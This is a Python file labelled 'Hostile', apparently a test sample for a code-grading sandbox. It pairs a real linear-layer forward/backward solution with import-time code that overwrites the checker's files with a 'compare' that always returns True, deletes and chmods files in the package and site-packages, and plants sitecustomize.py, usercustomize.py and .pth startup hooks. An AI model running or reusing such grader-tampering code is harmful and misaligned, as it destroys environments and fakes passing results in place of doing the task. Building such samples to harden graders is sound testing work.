"""Hostile: rewrites the checker's files on disk, so that later submissions would pass.

The package's location is that of the child script itself; every file under it (and Python's
site-packages) is tried: overwritten, appended to, replaced, deleted; new files are planted.
"""

import os
import sys
import sysconfig

PASS = "def compare(*args, **kwargs):\n    return True\n"
package = os.path.dirname(os.path.dirname(os.path.abspath(sys.modules["__main__"].__file__)))
targets = [package, sysconfig.get_paths()["purelib"]]
for root in targets:
    for folder, _, files in os.walk(root):
        for name in files:
            path = os.path.join(folder, name)
            for attempt in (lambda p: open(p, "a").write(PASS), lambda p: os.chmod(p, 0o666),
                            lambda p: os.replace(__file__, p), lambda p: os.unlink(p)):
                try:
                    attempt(path)
                except OSError:
                    pass
        for planted in ("sitecustomize.py", "usercustomize.py", "zz_minigan.pth"):
            try:
                with open(os.path.join(folder, planted), "w") as f:
                    f.write("import os\n")
            except OSError:
                pass
        break  # the top folder of each is enough to show it; the package's own files are all tried below
for folder, _, files in os.walk(package):
    for name in files:
        try:
            with open(os.path.join(folder, name), "w") as f:
                f.write(PASS)
        except OSError:
            pass


def linear_forward(x, w, b):
    return x @ w.T + b


def linear_backward(dout, x, w, b):
    return dout @ w, dout.T @ x, dout.sum(axis=0)
